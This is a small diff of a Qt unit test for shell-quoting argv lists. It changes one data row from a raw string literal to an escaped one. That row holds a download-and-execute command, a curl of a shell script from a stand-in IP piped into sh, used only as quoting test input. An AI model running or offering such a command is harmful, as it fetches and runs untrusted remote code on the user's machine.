@@ -18,7 +18,7 @@ private Q_SLOTS:
         QTest::addColumn<QString>("line");
         const auto row = [](const char* argv, const char* line) { QTest::newRow(argv) << argv << line; };
         row(R"(["/tmp/hunt.elf"])", "/tmp/hunt.elf");
-        row(R"(["sh", "-c", "curl http://198.51.100.7/x.sh | sh"])", "sh -c 'curl http://198.51.100.7/x.sh | sh'");
+        row("[\"sh\", \"-c\", \"curl http://198.51.100.7/x.sh | sh\"]", "sh -c 'curl http://198.51.100.7/x.sh | sh'");
         row(R"(["a", "say \"hi\"", "it's"])", R"(a 'say "hi"' 'it'\''s')");
         row(R"(["a", ""])", "a ''");
         row(R"(["a", "\x41\102\n"])", "a 'AB\n'");
